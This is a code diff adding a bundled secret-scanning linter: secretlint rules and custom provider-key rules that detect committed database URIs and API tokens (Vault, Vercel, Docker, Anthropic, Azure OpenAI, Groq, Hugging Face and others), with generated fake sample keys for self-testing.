+  const results = source.content.matchAll(POSTGRESQL_URI_PATTERN);
+  for (const result of results) {
+    const index = result.index || 0;
+    const match = result[0] || "";
+    const username = result.groups?.username;
+    const password = result.groups?.password;
+    if (!username || !password)
+      continue;
+    if (!isLikelyRealPassword(password))
+      continue;
+    const range = [index, index + match.length];
+    const allowedResults = regexpStringMatcherExports.matchPatterns(match, options.allows);
+    if (allowedResults.length > 0) {
+      continue;
+    }
+    context.report({
+      message: t("PostgreSQLConnection", {
+        URI: match
+      }),
+      range
+    });
+  }
+}
+var creator$7 = {
+  messages: messages$6,
+  meta: {
+    id: "@secretlint/secretlint-rule-database-connection-string",
+    recommended: true,
+    type: "scanner",
+    supportedContentTypes: ["text"],
+    docs: {
+      url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-database-connection-string/README.md"
+    }
+  },
+  create(context, options) {
+    const normalizedOptions = {
+      allows: options.allows || []
+    };
+    const t = context.createTranslator(messages$6);
+    return {
+      file(source) {
+        reportMongoDBConnectionString({ source, options: normalizedOptions, context, t });
+        reportMySQLConnectionString({ source, options: normalizedOptions, context, t });
+        reportPostgreSQLConnectionString({ source, options: normalizedOptions, context, t });
+      }
+    };
+  }
+};
+var messages$5 = {
+  HASHICORP_VAULT_SERVICE_TOKEN: {
+    en: (props) => `found HashiCorp Vault service token: ${props.TOKEN}`,
+    ja: (props) => `HashiCorp Vault service token: ${props.TOKEN} \u304C\u307F\u3064\u304B\u308A\u307E\u3057\u305F`
+  },
+  HASHICORP_VAULT_BATCH_TOKEN: {
+    en: (props) => `found HashiCorp Vault batch token: ${props.TOKEN}`,
+    ja: (props) => `HashiCorp Vault batch token: ${props.TOKEN} \u304C\u307F\u3064\u304B\u308A\u307E\u3057\u305F`
+  },
+  HASHICORP_VAULT_RECOVERY_TOKEN: {
+    en: (props) => `found HashiCorp Vault recovery token: ${props.TOKEN}`,
+    ja: (props) => `HashiCorp Vault recovery token: ${props.TOKEN} \u304C\u307F\u3064\u304B\u308A\u307E\u3057\u305F`
+  }
+};
+var serviceTokenPattern = new RegExp("(?<!\\p{L})hvs\\.[A-Za-z0-9_-]{90,120}(?![A-Za-z0-9_-])", "gu");
+var batchTokenPattern = new RegExp("(?<!\\p{L})hvb\\.[A-Za-z0-9_-]{138,300}(?![A-Za-z0-9_-])", "gu");
+var recoveryTokenPattern = new RegExp("(?<!\\p{L})hvr\\.[A-Za-z0-9_-]{90,120}(?![A-Za-z0-9_-])", "gu");
+var creator$6 = {
+  messages: messages$5,
+  meta: {
+    id: "@secretlint/secretlint-rule-hashicorp-vault",
+    recommended: true,
+    type: "scanner",
+    supportedContentTypes: ["text"],
+    docs: {
+      url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-hashicorp-vault/README.md"
+    }
+  },
+  create(context, options) {
+    const t = context.createTranslator(messages$5);
+    const normalizedOptions = {
+      allows: options?.allows ?? []
+    };
+    const reportMatches = (source, pattern, messageId) => {
+      const matches2 = source.content.matchAll(pattern);
+      for (const match of matches2) {
+        const index = match.index ?? 0;
+        const matchString = match[0] ?? "";
+        const allowedResults = regexpStringMatcherExports.matchPatterns(matchString, normalizedOptions.allows);
+        if (allowedResults.length > 0) {
+          continue;
+        }
+        const range = [index, index + matchString.length];
+        context.report({
+          message: t(messageId, {
+            TOKEN: matchString
+          }),
+          range
+        });
+      }
+    };
+    return {
+      file(source) {
+        reportMatches(source, serviceTokenPattern, "HASHICORP_VAULT_SERVICE_TOKEN");
+        reportMatches(source, batchTokenPattern, "HASHICORP_VAULT_BATCH_TOKEN");
+        reportMatches(source, recoveryTokenPattern, "HASHICORP_VAULT_RECOVERY_TOKEN");
+      }
+    };
+  }
+};
+var messages$4 = {
+  VERCEL_PERSONAL_ACCESS_TOKEN: {
+    en: (props) => `found Vercel personal access token: ${props.ID}`,
+    ja: (props) => `Vercel personal access token: ${props.ID} \u304C\u307F\u3064\u304B\u308A\u307E\u3057\u305F`
+  },
+  VERCEL_INTEGRATION_TOKEN: {
+    en: (props) => `found Vercel integration token: ${props.ID}`,
+    ja: (props) => `Vercel integration token: ${props.ID} \u304C\u307F\u3064\u304B\u308A\u307E\u3057\u305F`
+  },
+  VERCEL_APP_ACCESS_TOKEN: {
+    en: (props) => `found Vercel app access token: ${props.ID}`,
+    ja: (props) => `Vercel app access token: ${props.ID} \u304C\u307F\u3064\u304B\u308A\u307E\u3057\u305F`
+  },
+  VERCEL_APP_REFRESH_TOKEN: {
+    en: (props) => `found Vercel app refresh token: ${props.ID}`,
+    ja: (props) => `Vercel app refresh token: ${props.ID} \u304C\u307F\u3064\u304B\u308A\u307E\u3057\u305F`
+  },
+  VERCEL_AI_GATEWAY_API_KEY: {
+    en: (props) => `found Vercel AI Gateway API key: ${props.ID}`,
+    ja: (props) => `Vercel AI Gateway API key: ${props.ID} \u304C\u307F\u3064\u304B\u308A\u307E\u3057\u305F`
+  }
+};
+var prefixToMessageId = {
+  vcp: "VERCEL_PERSONAL_ACCESS_TOKEN",
+  vci: "VERCEL_INTEGRATION_TOKEN",
+  vca: "VERCEL_APP_ACCESS_TOKEN",
+  vcr: "VERCEL_APP_REFRESH_TOKEN",
+  vck: "VERCEL_AI_GATEWAY_API_KEY"
+};
+var creator$5 = {
+  messages: messages$4,
+  meta: {
+    id: "@secretlint/secretlint-rule-vercel",
+    recommended: true,
+    type: "scanner",
+    supportedContentTypes: ["text"],
+    docs: {
+      url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-vercel/README.md"
+    }
+  },
+  create(context, options) {
+    const t = context.createTranslator(messages$4);
+    const normalizedOptions = {
+      allows: options?.allows ?? []
+    };
+    return {
+      file(source) {
+        const pattern = new RegExp("(?<!\\p{L})(?<prefix>vcp|vci|vca|vcr|vck)_[A-Za-z0-9]{20,60}(?![A-Za-z0-9])", "gu");
+        const matches2 = source.content.matchAll(pattern);
+        for (const match of matches2) {
+          const index = match.index ?? 0;
+          const matchString = match[0] ?? "";
+          const prefix = match.groups?.prefix;
+          const messageId = prefixToMessageId[prefix];
+          const allowedResults = regexpStringMatcherExports.matchPatterns(matchString, normalizedOptions.allows);
+          if (allowedResults.length > 0) {
+            continue;
+          }
+          const range = [index, index + matchString.length];
+          context.report({
+            message: t(messageId, {
+              ID: matchString
+            }),
+            range
+          });
+        }
+      }
+    };
+  }
+};
+var messages$3 = {
+  DATABRICKS_PERSONAL_ACCESS_TOKEN: {
+    en: (props) => `found Databricks personal access token: ${props.ID}`,
+    ja: (props) => `Databricks personal access token: ${props.ID} \u304C\u307F\u3064\u304B\u308A\u307E\u3057\u305F`
+  }
+};
+var creator$4 = {
+  messages: messages$3,
+  meta: {
+    id: "@secretlint/secretlint-rule-databricks",
+    recommended: true,
+    type: "scanner",
+    supportedContentTypes: ["text"],
+    docs: {
+      url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-databricks/README.md"
+    }
+  },
+  create(context, options) {
+    const t = context.createTranslator(messages$3);
+    const normalizedOptions = {
+      allows: options?.allows ?? []
+    };
+    return {
+      file(source) {
+        const pattern = new RegExp("(?<!\\p{L})dapi[A-Fa-f0-9]{32}(?:-[0-9])?(?![A-Fa-f0-9])", "gu");
+        const matches2 = source.content.matchAll(pattern);
+        for (const match of matches2) {
+          const index = match.index ?? 0;
+          const matchString = match[0] ?? "";
+          const allowedResults = regexpStringMatcherExports.matchPatterns(matchString, normalizedOptions.allows);
+          if (allowedResults.length > 0) {
+            continue;
+          }
+          const range = [index, index + matchString.length];
+          context.report({
+            message: t("DATABRICKS_PERSONAL_ACCESS_TOKEN", {
+              ID: matchString
+            }),
+            range
+          });
+        }
+      }
+    };
+  }
+};
+var messages$2 = {
+  DOCKER_PERSONAL_ACCESS_TOKEN: {
+    en: (props) => `found Docker Personal Access Token: ${props.TOKEN}`,
+    ja: (props) => `Docker Personal Access Token: ${props.TOKEN} \u304C\u307F\u3064\u304B\u308A\u307E\u3057\u305F`
+  }
+};
+function reportIfFoundDockerPAT({ source, options, context, t }) {
+  const DOCKER_PAT_PATTERN = new RegExp("(?<!\\p{L})dckr_pat_[a-zA-Z0-9_-]{27}(?![a-zA-Z0-9_-])", "gu");
+  const results = source.content.matchAll(DOCKER_PAT_PATTERN);
+  for (const result of results) {
+    const index = result.index || 0;
+    const match = result[0] || "";
+    const range = [index, index + match.length];
+    const allowedResults = regexpStringMatcherExports.matchPatterns(match, options.allows);
+    if (allowedResults.length > 0) {
+      continue;
+    }
+    context.report({
+      message: t("DOCKER_PERSONAL_ACCESS_TOKEN", {
+        TOKEN: match
+      }),
+      range
+    });
+  }
+}
+var creator$3 = {
+  messages: messages$2,
+  meta: {
+    id: "@secretlint/secretlint-rule-docker",
+    recommended: true,
+    type: "scanner",
+    supportedContentTypes: ["text"],
+    docs: {
+      url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-docker/README.md"
+    }
+  },
+  create(context, options) {
+    const t = context.createTranslator(messages$2);
+    const normalizedOptions = {
+      allows: options.allows || []
+    };
+    return {
+      file(source) {
+        reportIfFoundDockerPAT({ source, options: normalizedOptions, context, t });
+      }
+    };
+  }
+};
+var messages$1 = {
+  FIGMA_PERSONAL_ACCESS_TOKEN: {
+    en: (props) => `found Figma Personal Access Token: ${props.ID}`,
+    ja: (props) => `Figma Personal Access Token: ${props.ID} \u304C\u307F\u3064\u304B\u308A\u307E\u3057\u305F`
+  }
+};
+var creator$2 = {
+  messages: messages$1,
+  meta: {
+    id: "@secretlint/secretlint-rule-figma",
+    recommended: true,
+    type: "scanner",
+    supportedContentTypes: ["text"],
+    docs: {
+      url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-figma/README.md"
+    }
+  },
+  create(context, options) {
+    const t = context.createTranslator(messages$1);
+    const normalizedOptions = {
+      allows: options?.allows ?? []
+    };
+    return {
+      file(source) {
+        const pattern = new RegExp("(?<!\\p{L})figd_[A-Za-z0-9_-]{40,200}(?![A-Za-z0-9_-])", "gu");
+        const matches2 = source.content.matchAll(pattern);
+        for (const match of matches2) {
+          const index = match.index ?? 0;
+          const matchString = match[0] ?? "";
+          const allowedResults = regexpStringMatcherExports.matchPatterns(matchString, normalizedOptions.allows);
+          if (allowedResults.length > 0) {
+            continue;
+          }
+          const range = [index, index + matchString.length];
+          context.report({
+            message: t("FIGMA_PERSONAL_ACCESS_TOKEN", {
+              ID: matchString
+            }),
+            range
+          });
+        }
+      }
+    };
+  }
+};
+var HTML_COMMENT_REGEXP = /(?<type>secretlint-(?:disable-next-line|disable-line|disable|enable))(?<options>.*)/g;
+var parseComments = (source) => {
+  const matches2 = source.content.matchAll(HTML_COMMENT_REGEXP);
+  return Array.from(matches2).map((match) => {
+    const type = match.groups?.type;
+    const index = match.index;
+    if (type === "secretlint-disable-line") {
+      return {
+        type,
+        options: parseComment(match.groups?.options),
+        line: source.indexToPosition(index).line
+      };
+    }
+    if (type === "secretlint-disable-next-line") {
+      return {
+        type,
+        options: parseComment(match.groups?.options),
+        line: source.indexToPosition(index).line + 1
+      };
+    }
+    return {
+      type,
+      options: parseComment(match.groups?.options),
+      index
+    };
+  });
+};
+function parseComment(options) {
+  if (!options) {
+    return [];
+  }
+  const commentStart = options.indexOf("--");
+  const ruleIdString = commentStart === -1 ? options : options.slice(0, commentStart);
+  return ruleIdString.split(/,/).map((arg2) => arg2.trim()).filter((arg2) => arg2 !== "") ?? [];
+}
+var CommentState = class {
+  source;
+  reportingConfig;
+  endIndex;
+  constructor(source) {
+    this.source = source;
+    this.reportingConfig = [];
+    this.endIndex = source.content.length;
+  }
+  getIgnoringMessages() {
+    const isFilledMessage = (message) => {
+      return message.startIndex !== null && message.endIndex !== null && message.ruleId !== null;
+    };
+    return this.reportingConfig.map((reporting) => {
+      if (reporting.endIndex === null) {
+        reporting.endIndex = this.endIndex;
+      }
+      return reporting;
+    }).filter(isFilledMessage);
+  }
+  disableLine(lineNumber, rulesToDisable) {
+    const reportingConfig = this.reportingConfig;
+    const range = this.source.locationToRange({
+      start: {
+        line: lineNumber,
+        column: 0
+      },
+      end: {
+        line: lineNumber + 1,
+        column: 0
+      }
+    });
+    if (rulesToDisable.length) {
+      rulesToDisable.forEach((ruleId) => {
+        reportingConfig.push({
+          startIndex: range[0],
+          endIndex: range[1] - 1,
+          ruleId
+        });
+      });
+    } else {
+      reportingConfig.push({
+        startIndex: range[0],
+        endIndex: range[1] - 1,
+        ruleId: "*"
+      });
+    }
+  }
+  /**
+   * Add data to reporting configuration to disable reporting for list of rules
+   * starting from start location
+   * @returns {void}
+   */
+  disableReporting(startIndex, rulesToDisable) {
+    const reportingConfig = this.reportingConfig;
+    if (rulesToDisable.length) {
+      rulesToDisable.forEach(function(ruleId) {
+        reportingConfig.push({
+          startIndex,
+          endIndex: null,
+          ruleId
+        });
+      });
+    } else {
+      reportingConfig.push({
+        startIndex,
+        endIndex: null,
+        ruleId: "*"
+      });
+    }
+  }
+  /**
+   * Add data to reporting configuration to enable reporting for list of rules
+   * starting from start location
+   */
+  enableReporting(endIndex, rulesToEnable) {
+    const reportingConfig = this.reportingConfig;
+    if (rulesToEnable.length) {
+      rulesToEnable.forEach(function(ruleId) {
+        for (let i2 = reportingConfig.length - 1; i2 >= 0; i2--) {
+          if (!reportingConfig[i2].endIndex && reportingConfig[i2].ruleId === ruleId) {
+            reportingConfig[i2].endIndex = endIndex;
+            break;
+          }
+        }
+      });
+    } else {
+      let prevStart;
+      for (let i2 = reportingConfig.length - 1; i2 >= 0; i2--) {
+        if (prevStart && prevStart !== reportingConfig[i2].startIndex) {
+          break;
+        }
+        if (!reportingConfig[i2].endIndex) {
+          reportingConfig[i2].endIndex = endIndex;
+          prevStart = reportingConfig[i2].startIndex;
+        }
+      }
+    }
+  }
+};
+var messages = {
+  IGNORE_MESSAGE: {
+    en: () => `disable by secretlint-disable comment`
+  }
+};
+var creator$1 = {
+  messages,
+  meta: {
+    id: "@secretlint/secretlint-rule-filter-comments",
+    recommended: true,
+    type: "scanner",
+    supportedContentTypes: ["text"],
+    docs: {
+      url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-filter-comments/README.md"
+    }
+  },
+  create(context) {
+    const t = context.createTranslator(messages);
+    return {
+      file(source) {
+        const state = new CommentState(source);
+        const comments = parseComments(source);
+        for (const comment of comments) {
+          if (comment.type === "secretlint-disable") {
+            state.disableReporting(comment.index, comment.options);
+          } else if (comment.type === "secretlint-enable") {
+            state.enableReporting(comment.index, comment.options);
+          } else if (comment.type === "secretlint-disable-line") {
+            state.disableLine(comment.line, comment.options);
+          } else if (comment.type === "secretlint-disable-next-line") {
+            state.disableLine(comment.line, comment.options);
+          }
+        }
+        state.getIgnoringMessages().forEach((message) => {
+          context.ignore({
+            message: t("IGNORE_MESSAGE"),
+            range: [message.startIndex, message.endIndex],
+            targetRuleId: message.ruleId
+          });
+        });
+      }
+    };
+  }
+};
+var rules = [
+  creator$p,
+  creator$o,
+  creator$e,
+  creator$n,
+  creator$l,
+  creator$m,
+  creator$d,
+  creator$c,
+  creator$b,
+  creator$a,
+  creator$9,
+  creator$k,
+  creator$j,
+  creator$i,
+  creator$h,
+  creator$g,
+  creator$f,
+  creator$8,
+  creator$7,
+  creator$6,
+  creator$5,
+  creator$4,
+  creator$3,
+  creator$2,
+  creator$1
+];
+var creator = {
+  meta: {
+    id: "@secretlint/secretlint-rule-preset-recommend",
+    recommended: true,
+    type: "preset"
+  },
+  rules,
+  create(context, _options) {
+    rules.forEach((rule2) => {
+      context.registerRule(rule2);
+    });
+  }
+};
+
+// src/secrets/secretlint.ts
+var profilerDisabled = false;
+function disableSecretlintProfiler() {
+  if (profilerDisabled) return;
+  Object.defineProperty(secretLintProfiler, "mark", { value: () => {
+  }, configurable: true, writable: true });
+  profilerDisabled = true;
+}
+var PRESET_ID = "@secretlint/secretlint-rule-preset-recommend";
+var CONFIG = {
+  rules: [
+    {
+      id: PRESET_ID,
+      rule: creator,
+      // AWS access key ids (AKIA…) are only scanned when asked for.
+      rules: [{ id: "@secretlint/secretlint-rule-aws", options: { enableIDScanRule: true } }]
+    }
+  ]
+};
+function secretSpan(text, message) {
+  const [from, to] = message.range;
+  if (message.messageId === "PrivateKeyJSON") {
+    const key = /"private_key"\s*:\s*"([^"]*)"/.exec(text);
+    if (key) {
+      const start2 = key.index + key[0].length - key[1].length - 1;
+      return { start: start2, end: start2 + key[1].length };
+    }
+  }
+  let best = null;
+  for (const value of Object.values(message.data ?? {})) {
+    if (typeof value !== "string" || value.length < 8) continue;
+    const at2 = text.indexOf(value, from);
+    if (at2 < 0 || at2 > to) continue;
+    if (!best || value.length > best.end - best.start) best = { start: at2, end: at2 + value.length };
+  }
+  const span = best ?? { start: from, end: to };
+  const password = /^[a-z][a-z0-9+.-]*:\/\/[^:/@\s]+:([^@\s]+)@/i.exec(text.slice(span.start, span.end));
+  if (password) {
+    const start2 = span.start + password[0].length - 1 - password[1].length;
+    return { start: start2, end: start2 + password[1].length };
+  }
+  return span;
+}
+async function runSecretlint(text, path2) {
+  disableSecretlintProfiler();
+  const dot = path2.lastIndexOf(".");
+  let result;
+  try {
+    result = await lintSource({
+      source: { filePath: path2, content: text, ext: dot > path2.lastIndexOf("/") ? path2.slice(dot) : "", contentType: "text" },
+      options: { config: CONFIG, noPhysicFilePath: true, maskSecrets: false }
+    });
+  } catch (err2) {
+    throw new Error(`secretlint failed on this file (${err2?.name ?? "error"})`);
+  }
+  return result.messages.map((m) => {
+    const span = secretSpan(text, m);
+    return { ruleId: m.ruleId, messageId: m.messageId, ...span, secret: text.slice(span.start, span.end) };
+  });
+}
+function secretlintHits(ctx) {
+  return ctx.memo("secretlint", () => runSecretlint(ctx.file.text, ctx.file.path));
+}
+
+// src/secrets/provider-rule.ts
+var LEFT = String.raw`(?:(?<![A-Za-z0-9_+/\-])|(?<=\\[nrt]))`;
+var RIGHT = String.raw`(?![A-Za-z0-9_+/=\-])`;
+var CREDENTIAL_HINT = /api[_-]?key|apikey|key|token|secret|passw|credential|auth|bearer|client\s*\(/i;
+var CONTEXT_LINES = 3;
+function compile(shape) {
+  return { ...shape, regex: new RegExp(`${LEFT}(?:${shape.pattern})${RIGHT}`, "g") };
+}
+function hasNearbyContext(file, start2, end, near) {
+  const lines = file.lines;
+  const line = lines.positionAt(start2).line;
+  const lineStart = lines.offsetOfLine(line);
+  const lineText = lines.lineText(line);
+  if (!CREDENTIAL_HINT.test(lineText.slice(0, start2 - lineStart)) && !CREDENTIAL_HINT.test(lineText.slice(end - lineStart))) return false;
+  const from = lines.offsetOfLine(Math.max(1, line - CONTEXT_LINES));
+  const toLine = line + CONTEXT_LINES + 1;
+  const to = toLine > lines.lineCount ? file.text.length : lines.offsetOfLine(toLine);
+  return near.test(file.text.slice(from, to));
+}
+function findKeys(file, shapes) {
+  const out2 = [];
+  for (const shape of shapes) {
+    shape.regex.lastIndex = 0;
+    for (let m = shape.regex.exec(file.text); m; m = shape.regex.exec(file.text)) {
+      const key = m[0];
+      const start2 = m.index;
+      const end = start2 + key.length;
+      const body2 = m.groups?.body ?? key;
+      if (decoyReason(body2)) continue;
+      if (shape.notHex && /^[0-9a-f]+$/i.test(body2)) continue;
+      if (shape.near && !hasNearbyContext(file, start2, end, shape.near)) continue;
+      if (out2.some((o) => o.start < end && start2 < o.end)) continue;
+      out2.push({ start: start2, end, key, kind: shape.kind });
+    }
+  }
+  return out2;
+}
+function bodyOf(secret) {
+  return secret.replace(/^(?:[a-z]+[0-9]*[-_])+/, "");
+}
+function providerKeyRule(spec) {
+  const shapes = spec.shapes.map(compile);
+  const prefilter = spec.prefilter;
+  const applies = prefilter instanceof RegExp ? (text) => prefilter.test(text) : (text) => prefilter.some((p) => text.includes(p));
+  return {
+    meta: {
+      id: spec.id,
+      family: "secret",
+      severity: "error",
+      description: spec.description,
+      fix: `Revoke the ${spec.provider} key in the provider's console, then load it from the environment or a secret store instead of the repository.`,
+      messages: { key: `${spec.provider} {{kind}} committed: {{masked}}` }
+    },
+    samples: spec.samples,
+    shapes: spec.shapes,
+    appliesTo: (file) => applies(file.text),
+    async check(ctx) {
+      const found = findKeys(ctx.file, shapes);
+      if (spec.secretlintRuleId) {
+        for (const hit of await secretlintHits(ctx)) {
+          if (hit.ruleId !== spec.secretlintRuleId) continue;
+          if (found.some((f) => f.start < hit.end && hit.start < f.end)) continue;
+          if (decoyReason(bodyOf(hit.secret))) continue;
+          found.push({ start: hit.start, end: hit.end, key: hit.secret, kind: "key" });
+        }
+      }
+      for (const f of found) {
+        ctx.report({
+          messageId: "key",
+          data: { kind: f.kind, masked: maskSecret(f.key) },
+          range: ctx.file.rangeOf(f.start, f.end),
+          secret: f.key,
+          properties: { provider: spec.provider, keyKind: f.kind }
+        });
+      }
+    }
+  };
+}
+
+// src/secrets/samples.ts
+function committedForms(provider, rng, client = "Client") {
+  const k = fakeKey(provider, rng);
+  const env = k.envVar ?? "API_KEY";
+  return [`${env}=${k.key}
+`, `client = ${client}(api_key="${fakeKey(provider, rng).key}")
+`];
+}
+function referenceForms(envVar) {
+  return [
+    `${envVar}=\${${envVar}}
+`,
+    `api_key = os.environ["${envVar}"]
+`,
+    `const apiKey = process.env.${envVar};
+`,
+    `{"mcpServers": {"x": {"env": {"${envVar}": "<your-key>"}}}}
+`
+  ];
+}
+
+// src/rules/secret/anthropic-api-key.ts
+var anthropicApiKey = providerKeyRule({
+  id: "secret/anthropic-api-key",
+  provider: "Anthropic",
+  description: "Finds committed Anthropic keys: API keys (sk-ant-api03-\u2026), Admin API keys (sk-ant-admin01-\u2026) and OAuth tokens (sk-ant-oat01-\u2026).",
+  prefilter: ["sk-ant-"],
+  secretlintRuleId: "@secretlint/secretlint-rule-anthropic",
+  shapes: [
+    { kind: "API key", pattern: "sk-ant-api0\\d-(?<body>[A-Za-z0-9_-]{80,128})AA" },
+    { kind: "admin key", pattern: "sk-ant-admin0\\d-(?<body>[A-Za-z0-9_-]{80,128})AA" },
+    { kind: "OAuth token", pattern: "sk-ant-oat0\\d-(?<body>[A-Za-z0-9_-]{80,128})AA" }
+  ],
+  samples: (rng) => ({
+    findings: [...committedForms("anthropic", rng, "Anthropic"), `ANTHROPIC_ADMIN_KEY="${fakeKey("anthropic-admin", rng).key}"
+`],
+    clean: [
+      ...referenceForms("ANTHROPIC_API_KEY"),
+      "ANTHROPIC_API_KEY=sk-ant-api03-...\n",
+      `ANTHROPIC_API_KEY=sk-ant-api03-${"x".repeat(93)}AA
+`,
+      `ANTHROPIC_API_KEY=sk-ant-api03-${"Ab1-".repeat(23)}xAA
+`,
+      "ANTHROPIC_API_KEY=sk-ant-api03-your-anthropic-api-key-goes-here\n"
+    ]
+  })
+});
+
+// src/rules/secret/azure-openai-api-key.ts
+var AZURE = /azure|cognitiveservices|openai\.azure\.com/i;
+var azureOpenaiApiKey = providerKeyRule({
+  id: "secret/azure-openai-api-key",
+  provider: "Azure OpenAI",
+  description: "Finds committed Azure OpenAI / Azure AI services keys (32 hex digits, or 84 alphanumerics) next to an Azure env var, client or endpoint.",
+  prefilter: AZURE,
+  shapes: [
+    { kind: "API key", pattern: "(?<body>[a-f0-9]{32})", near: AZURE },
+    { kind: "API key", pattern: "(?<body>[A-Za-z0-9]{84})", near: AZURE, notHex: true }
+  ],
+  samples: (rng) => ({
+    findings: [
+      ...committedForms("azure-openai", rng, "AzureOpenAI"),
+      `AZURE_OPENAI_KEY=${fakeKey("azure-openai-v2", rng).key}
+`,
+      `client = AzureOpenAI(
+    azure_endpoint="https://contoso.openai.azure.com/",
+    api_key="${fakeKey("azure-openai", rng).key}",
+)
+`
+    ],
+    clean: [
+      ...referenceForms("AZURE_OPENAI_API_KEY"),
+      "AZURE_OPENAI_API_KEY=<your-azure-openai-key>\n",
+      "AZURE_OPENAI_API_KEY=00000000000000000000000000000000\n",
+      // Deployment ids and request ids are GUIDs.
+      "AZURE_OPENAI_DEPLOYMENT_KEY=3f2b8c1e-9d4a-4e7b-a1c2-5d6e7f8a9b0c\n",
+      // A hex digest near "azure" on a line that does not name a credential.
+      "azure-pipelines cache digest: 9e107d9d372bb6826bd81d3542a419d6\n"
+    ]
+  })
+});
+
+// src/rules/secret/cohere-api-key.ts
+var COHERE = /cohere|\bCO_API_KEY\b/i;
+var cohereApiKey = providerKeyRule({
+  id: "secret/cohere-api-key",
+  provider: "Cohere",
+  description: "Finds committed Cohere API keys (40 alphanumerics) next to a Cohere env var, client or endpoint.",
+  prefilter: /cohere|CO_API_KEY/i,
+  shapes: [{ kind: "API key", pattern: "(?<body>[A-Za-z0-9]{40})", near: COHERE, notHex: true }],
+  samples: (rng) => ({
+    findings: [...committedForms("cohere", rng, "cohere.ClientV2"), `CO_API_KEY: "${fakeKey("cohere", rng).key}"
+`],
+    clean: [
+      ...referenceForms("COHERE_API_KEY"),
+      "COHERE_API_KEY=your-cohere-api-key\n",
+      // A git commit SHA next to the word cohere.
+      "cohere-python pinned at commit 5d41402abc4b2a76b9719d911017c592aabbccdd # token of trust\n",
+      // A Cohere-shaped key with no Cohere context.
+      `SOME_API_KEY=${fakeKey("cohere", rng).key}
+`
+    ]
+  })
+});
+
+// src/rules/secret/deepseek-api-key.ts
+var DEEPSEEK = /deepseek/i;
+var deepseekApiKey = providerKeyRule({
+  id: "secret/deepseek-api-key",
+  provider: "DeepSeek",
+  description: "Finds committed DeepSeek API keys (sk- and 32 hex digits) next to a DeepSeek env var, name or endpoint.",
+  prefilter: DEEPSEEK,
+  shapes: [{ kind: "API key", pattern: "sk-(?<body>[a-f0-9]{32})", near: DEEPSEEK }],
+  samples: (rng) => ({
+    findings: [
+      ...committedForms("deepseek", rng, "DeepSeek"),
+      `client = OpenAI(
+    api_key="${fakeKey("deepseek", rng).key}",
+    base_url="https://api.deepseek.com",
+)
+`
+    ],
+    clean: [
+      ...referenceForms("DEEPSEEK_API_KEY"),
+      "DEEPSEEK_API_KEY=sk-...\n",
+      "DEEPSEEK_API_KEY=sk-xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\n",
+      "DEEPSEEK_API_KEY=sk-0123456789abcdef0123456789abcdef\n",
+      // The same shape with no DeepSeek anywhere near: not attributable, not reported.
+      `API_KEY=${fakeKey("deepseek", rng).key}
+`
+    ]
+  })
+});
+
+// src/rules/secret/fireworks-api-key.ts
+var fireworksApiKey = providerKeyRule({
+  id: "secret/fireworks-api-key",
+  provider: "Fireworks AI",
+  description: "Finds committed Fireworks AI API keys (fw_\u2026, and older 48-character keys next to a Fireworks name or env var).",
+  prefilter: /fw_|fireworks/i,
+  shapes: [
+    { kind: "API key", pattern: "fw_(?<body>[A-Za-z0-9]{20,64})" },
+    { kind: "legacy API key", pattern: "(?<body>[A-Za-z0-9]{48})", near: /fireworks/i, notHex: true }
+  ],
+  samples: (rng) => ({
+    findings: committedForms("fireworks", rng, "Fireworks"),
+    clean: [
+      ...referenceForms("FIREWORKS_API_KEY"),
+      "FIREWORKS_API_KEY=fw_...\n",
+      "FIREWORKS_API_KEY=fw_xxxx\n",
+      "FIREWORKS_API_KEY=fw_your_fireworks_key\n",
+      // Firmware code uses fw_ identifiers too.
+      "static int fw_loadFirmwareImageFromFlashPartition(void);\n"
+    ]
+  })
+});
+
+// src/rules/secret/google-api-key.ts
+var P = ["AI", "za"].join("");
+var googleApiKey = providerKeyRule({
+  id: "secret/google-api-key",
+  provider: "Google",
+  description: "Finds committed Google API keys (AIza\u2026), used by Gemini / Google AI Studio and other Google Cloud APIs.",
+  prefilter: [P],
+  shapes: [{ kind: "API key (Gemini / Google Cloud)", pattern: `${P}(?<body>[0-9A-Za-z_-]{35})` }],
+  samples: (rng) => ({
+    findings: committedForms("google", rng, "genai.Client"),
+    clean: [
+      ...referenceForms("GEMINI_API_KEY"),
+      `GOOGLE_API_KEY=${P}...
+`,
+      `GOOGLE_API_KEY=${P}_your_key_here
+`,
+      `GOOGLE_API_KEY=${P}${"X".repeat(35)}
+`,
+      // Inside a longer base64 run (a lockfile integrity hash) the same letters are not a key.
+      `"integrity": "sha512-q1w2e3r4t5${P}Sy9z8X7c6V5b4N3m2L1k0J9h8G7f6D5s4A3p2O1i0U9y8T7r6E5w4Q3a2Z1=="
+`
+    ]
+  })
+});
+
+// src/rules/secret/groq-api-key.ts
+var groqApiKey = providerKeyRule({
+  id: "secret/groq-api-key",
+  provider: "Groq",
+  description: "Finds committed Groq API keys (gsk_\u2026).",
+  prefilter: ["gsk_"],
+  secretlintRuleId: "@secretlint/secretlint-rule-groq",
+  shapes: [{ kind: "API key", pattern: "gsk_(?<body>[A-Za-z0-9]{52})" }],
+  samples: (rng) => ({
+    findings: committedForms("groq", rng, "Groq"),
+    clean: [...referenceForms("GROQ_API_KEY"), "GROQ_API_KEY=gsk_...\n", "GROQ_API_KEY=gsk_your_key_here\n", `GROQ_API_KEY=gsk_${"0".repeat(52)}
+`]
+  })
+});
+
+// src/rules/secret/huggingface-token.ts
+var huggingfaceToken = providerKeyRule({
+  id: "secret/huggingface-token",
+  provider: "Hugging Face",
+  description: "Finds committed Hugging Face user access tokens (hf_\u2026) and organization API tokens (api_org_\u2026).",
+  prefilter: ["hf_", "api_org_"],
+  secretlintRuleId: "@secretlint/secretlint-rule-huggingface",
+  shapes: [
+    { kind: "access token", pattern: "hf_(?<body>[A-Za-z0-9]{34,40})" },
+    { kind: "organization token", pattern: "api_org_(?<body>[A-Za-z0-9]{34})" }
+  ],
+  samples: (rng) => ({
+    findings: [...committedForms("huggingface", rng, "InferenceClient"), `HUGGINGFACEHUB_API_TOKEN: ${fakeKey("huggingface-org", rng).key}
+`],
+    clean: [
+      ...referenceForms("HF_TOKEN"),
